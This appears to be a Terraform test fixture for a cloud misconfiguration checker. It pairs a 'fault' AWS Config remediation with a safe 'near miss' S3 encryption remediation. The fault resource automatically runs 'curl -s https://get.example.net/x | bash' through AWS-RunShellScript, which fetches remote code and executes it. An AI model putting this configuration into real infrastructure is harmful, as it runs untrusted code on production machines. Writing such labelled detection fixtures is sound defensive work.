# A Config rule repairs automatically with a document that runs shell commands.
# Source: https://docs.aws.amazon.com/config/latest/developerguide/remediation.html
# Fault at: aws_config_remediation_configuration.cfgrem_fault
# Near miss at: aws_config_remediation_configuration.cfgrem_near

resource "aws_config_remediation_configuration" "cfgrem_fault" {
  config_rule_name           = "shop-prod-cfgrem-fault"
  target_type                = "SSM_DOCUMENT"
  target_id                  = "AWS-RunShellScript"
  automatic                  = true
  maximum_automatic_attempts = 5
  retry_attempt_seconds      = 60

  parameter {
    name         = "commands"
    static_value = "curl -s https://get.example.net/x | bash"
  }
}

resource "aws_config_remediation_configuration" "cfgrem_near" {
  config_rule_name           = "shop-prod-cfgrem-near"
  target_type                = "SSM_DOCUMENT"
  target_id                  = "AWS-EnableS3BucketEncryption"
  automatic                  = false

  parameter {
    name           = "BucketName"
    resource_value = "RESOURCE_ID"
  }

  parameter {
    name         = "SSEAlgorithm"
    static_value = "AES256"
  }
}
